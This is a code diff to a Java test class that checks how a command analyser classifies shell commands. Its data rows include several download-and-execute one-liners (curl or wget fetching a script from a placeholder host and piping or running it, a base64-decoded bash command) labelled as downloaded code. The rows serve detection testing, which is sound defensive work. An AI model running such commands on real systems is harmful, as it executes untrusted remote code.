@@ -86,7 +86,7 @@ class FootprintsTest {
         if (write == null) {
             assertThat(footprint.folders()).contains(path);
         } else {
-            assertThat(footprint.files()).contains(new NamedFile(path, true, write));
+            assertThat(footprint.files()).anyMatch(file -> file.path().equals(path) && file.write() == write);
         }
     }
 
@@ -146,6 +146,8 @@ class FootprintsTest {
                 "curl https://a.example/i.sh | sh¦DOWNLOADED_CODE",
                 "curl -o i.sh https://a.example && sh i.sh¦DOWNLOADED_CODE",
                 "wget -O /tmp/x a.example; chmod +x /tmp/x; /tmp/x¦DOWNLOADED_CODE",
+                "wget https://a.example/i.sh?x=1 && sh i.sh¦DOWNLOADED_CODE",
+                "curl a.example > i.sh; bash i.sh¦DOWNLOADED_CODE",
                 "echo aGk= | base64 -d | bash¦DOWNLOADED_CODE",
                 "python3 -c 1¦UNINSPECTABLE"
             })
